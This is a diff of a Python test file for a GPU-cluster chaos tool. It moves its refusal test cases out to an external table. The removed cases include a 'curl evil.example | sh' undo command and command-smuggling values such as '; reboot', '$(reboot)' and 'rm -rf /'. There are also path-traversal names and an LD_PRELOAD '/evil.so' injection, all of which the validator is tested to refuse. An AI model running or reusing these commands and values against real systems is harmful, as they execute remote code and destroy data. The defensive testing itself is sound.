@@ -33,12 +33,17 @@ from fixtures.ownership.proof_record import CHAOS_PREFIX
 from fixtures.ownership.read_proofs import read_proofs
 from tests.chaos.ledger.simulated_cluster import KUBE_SYSTEM, RUN, fetch, ledger, plan, recover, soon, world
 from tests.chaos.shipped import EXPERIMENTS
+from tests.tables import filled, table
 from tests.watching import PATIENCE
 
 pytestmark = pytest.mark.test_all
 
 ANOTHER = "20261121-130000-beef"
 PRODUCT = "nvidia.com/gpu.product"
+OWN = f"gpu-conformance-chaos-{RUN}"
+WORDS = {"RUN": RUN, "ANOTHER": ANOTHER, "OWN": OWN, "UNIT": f"gpu-conformance-{RUN}-n2-kubelet-stop"}
+TABLE = filled(table(__file__), WORDS)
+PRIVILEGED = TABLE["known"]["privileged"]
 
 
 @pytest.fixture
@@ -97,17 +102,6 @@ def is_told(done: RecoveryResult, *words: str) -> None:
     assert line.startswith(authentic.ATTACK), line
     for word in words:
         assert word in line, line
-
-
-PRIVILEGED = {
-    "name": "gpu-1",
-    "uid": "uid-gpu-1",
-    "run_id": RUN,
-    "image": "registry.evil.example/shell:1",
-    "undo": ["sh", "-c", "curl evil.example | sh"],
-    "check": ["true"],
-    "expected": "",
-}
 
 
 @pytest.mark.parametrize(
@@ -333,96 +327,6 @@ def test_a_token_that_a_tenant_has_seen_opens_no_namespace_of_his(cluster: Clust
 
 # -- what something vouches for is still held against its experiment -------------------------------------
 
-NODE = {"name": "gpu-1", "uid": "uid-gpu-1"}
-OWN = f"gpu-conformance-chaos-{RUN}"
-UNIT = f"gpu-conformance-{RUN}-n2-kubelet-stop"
-OWNER = {"owner": "plugin", "owner_uid": "uid-plugin", "selector": "app=plugin"}
-PLUGIN = {"namespace": "gpu-operator", **OWNER, "node": "gpu-1", "uids": ["uid-plugin-1"]}
-
-ENV = {
-    "key": "apps/daemonsets",
-    "namespace": "gpu-operator",
-    "name": "plugin",
-    "uid": "uid-plugin",
-    "container": "plugin",
-    "variable": "LD_PRELOAD",
-    "prior": "/evil.so",
-    "ours": "x",
-}
-
-
-OPERATOR = {"key": "apps/deployments", "namespace": "gpu-operator", "name": "gpu-operator", "uid": "uid-gpu-operator", "ready": 0}
-BUDGET = {
-    "key": "policy/poddisruptionbudgets",
-    "namespace": "gpu-operator",
-    "name": "b",
-    "uid": "u",
-    "saved": {"apiVersion": "policy/v1", "kind": "PodDisruptionBudget", "metadata": {"name": "b", "namespace": "gpu-operator"}},
-}
-TAINT = {"key": "evil", "value": "x", "effect": "NoExecute"}
-
-
-STATE = "dgxc.nvidia.com/nvsentinel-state"
-CLEARED = {**NODE, "unschedulable": False, "labels": {STATE: None}, "conditions": {}}
-SLICES = {"namespace": "gpu-operator", "node": "gpu-1", **OWNER}
-REPLACED = {"owner_kind": "DaemonSet", "owner_name": "plugin", "owner_uid": "uid-plugin", "killed": [], "ready": 0}
-
-OUTSIDE: list[tuple[str, str, dict[str, Any], str]] = [
-    ("A1", "node.unschedulable", {**NODE, "prior": True, "ours": False}, "is not an undo of experiment A1"),
-    ("N2", "host.command", PRIVILEGED, "no undo is called 'host.command'"),
-    ("N2", "host.kubelet", {**NODE, "pending": UNIT, "image": "evil:1"}, "unknown field `image`"),
-    ("N2", "host.kubelet", {**NODE, "pending": f"{UNIT}; reboot"}, "no unit of a run"),
-    ("N2", "host.kubelet", {**NODE, "pending": "../../etc/systemd/system/sshd"}, "no unit of a run"),
-    ("N2", "host.kubelet", {**NODE, "pending": UNIT.replace(RUN, ANOTHER)}, "which is not its run's"),
-    ("N2", "host.kubelet", {**NODE, "name": "../../namespaces/kube-system", "pending": UNIT}, "not a name of an object"),
-    ("D18", "host.reset", {**NODE, "uuid": "GPU-1 -i GPU-2"}, "no UUID of a device"),
-    ("D18", "host.persistence", {**NODE, "uuid": "$(reboot)"}, "no UUID of a device"),
-    ("D1", "host.nvml-mock", {**NODE, "prior": '"mode": "ok"\nrm -rf /'}, "no state of the mock"),
-    ("A9", "node.labels", {**NODE, "prior": {"node-role.kubernetes.io/control-plane": ""}, "ours": {}}, "of a node"),
-    ("A5", "object.present", {"key": "secrets", "name": "x", "uid": "u", "saved": {}}, "none of the kinds"),
-    (
-        "A5",
-        "object.present",
-        {"key": "configmaps", "namespace": "gpu-operator", "name": "operand", "uid": "u", "saved": {"metadata": {"name": "coredns"}}},
-        "another object",
-    ),
-    (
-        "A5",
-        "object.present",
-        {"key": "services", "namespace": "default", "name": "kubernetes", "uid": "u", "saved": {"metadata": {}}},
-        "which is protected",
-    ),
-    ("W3", "object.absent", {"key": "namespaces", "name": "kube-system", "run_id": RUN}, "which is not its run's"),
-    ("W3", "object.absent", {"key": "pods", "namespace": "team-a", "name": "train", "run_id": RUN}, "which is not its run's"),
-    ("W3", "object.absent", {"key": "configmaps", "namespace": OWN, "name": "x", "run_id": RUN}, "it creates none"),
-    ("W3", "object.absent", {"key": "pods", "namespace": OWN, "name": "../../../nodes/gpu-1", "run_id": RUN}, "not a name of an"),
-    ("W3", "object.absent", {"key": "pods", "namespace": OWN, "name": "x", "run_id": ANOTHER}, f"objects of run {ANOTHER}"),
-    ("D1", "agent.restarted", {**PLUGIN, "selector": ""}, "all pods of gpu-operator"),
-    ("D1", "agent.restarted", {**PLUGIN, "owner_uid": ""}, "all pods of gpu-operator"),
-    ("D1", "agent.restarted", {**PLUGIN, "namespace": "kube-public"}, "which is protected"),
-    ("D3", "workload.env", ENV, "the variable LD_PRELOAD"),
-    ("A4", "workload.replicas", {**OPERATOR, "prior": 0, "ours": 3}, "it never scales to 3"),
-    ("A4", "workload.replicas", {**OPERATOR, "prior": 9, "ours": 1}, "it never scales to 1"),
-    ("A5", "object.present", BUDGET, "'policy/poddisruptionbudgets' is none of the kinds that are saved and put back"),
-    ("Z1", "node.taints", {**NODE, "prior": [TAINT], "ours": []}, "taint evil of a node"),
-    ("X9", "node.labels", {**NODE, "prior": {}, "ours": {}}, "no experiment 'X9' is known here"),
-    ("D9", "node.cleared", {**CLEARED, "labels": {STATE: "evil"}}, "'evil' is no state of remediation"),
-    ("D9", "node.cleared", {**CLEARED, "labels": {}}, "labels (none) of a node"),
-    ("D9", "node.cleared", {**CLEARED, "labels": {STATE: None, "evil.example/x": "1"}}, "labels dgxc.nvidia.com/nvsentinel-state, evil"),
-    ("R1", "node.cleared", {**CLEARED, "agents": ["nvidia.com/gpu.deploy.operands/x"]}, "label nvidia.com/gpu.deploy.operands/x of a node"),
-    ("D1", "node.cleared", {**CLEARED, "notes": {"evil.example/x": "1"}}, "annotation evil.example/x of a node"),
-    ("D13", "node.cleared", {**CLEARED, "notes": {"cluster-autoscaler.kubernetes.io/scale-down-disabled": "true"}}, "annotation cluster-"),
-    ("A14c", "slices.published", {"driver": "d", "devices": ["p/d"], **SLICES, "namespace": "kube-public"}, "which is protected"),
-    ("A14c", "slices.published", {"driver": "d", "devices": ["p/d"], **SLICES, "selector": ""}, "expected a driver"),
-    ("A1", "pods.replaced", {**REPLACED, "namespace": "kube-public"}, "which is protected"),
-    ("N9", "node.exists", {**NODE, "name": "../pods", "saved": {}, "ready": True, "wait_seconds": 0}, "not a name of an object"),
-    ("D19", "host.device", {**NODE, "uuid": "GPU-1; reboot"}, "no UUID of a device"),
-    ("D18", "host.reset", {**NODE, "name": "..", "uuid": "GPU-1"}, "not a name of an object"),
-    ("D18", "node.unschedulable", {**NODE, "prior": True, "ours": False}, "it only cordons"),
-    ("Z1", "node.annotations", {**NODE, "prior": {"evil.example/x": "1"}, "ours": {}}, "evil.example/x of a node"),
-]
-"""Experiment, undo, arguments, and why they are refused."""
-
 
 @pytest.fixture(scope="module")
 def terms() -> Terms:
@@ -431,7 +335,7 @@ def terms() -> Terms:
     return msgspec.structs.replace(known, bounds={**known.bounds, "Z1": Bounds(undo=frozenset({"node.taints", "node.annotations"}))})
 
 
-@pytest.mark.parametrize(("experiment", "undo", "args", "why"), OUTSIDE)
+@pytest.mark.parametrize(("experiment", "undo", "args", "why"), TABLE["outside"])
 def test_what_an_experiment_may_not_touch_is_refused_even_when_it_is_vouched_for(
     cluster: Cluster, terms: Terms, experiment: str, undo: str, args: dict[str, Any], why: str
 ) -> None:
@@ -450,7 +354,7 @@ def test_what_an_experiment_may_not_touch_is_refused_even_when_it_is_vouched_for
 def test_no_undo_is_without_a_bound() -> None:
     """Whoever adds an undo says what bounds its arguments, and shows arguments that are refused."""
     assert {name for name, undo in REGISTRY.items() if undo.Args not in CHECKS} == set()
-    assert REGISTRY.keys() - {undo for _, undo, _, _ in OUTSIDE} == set()
+    assert REGISTRY.keys() - {undo for _, undo, _, _ in TABLE["outside"]} == set()
 
 
 def test_the_nodes_of_the_plan_bound_what_the_runs_own_folder_says(cluster: Cluster, tmp_path: Path, terms: Terms) -> None:
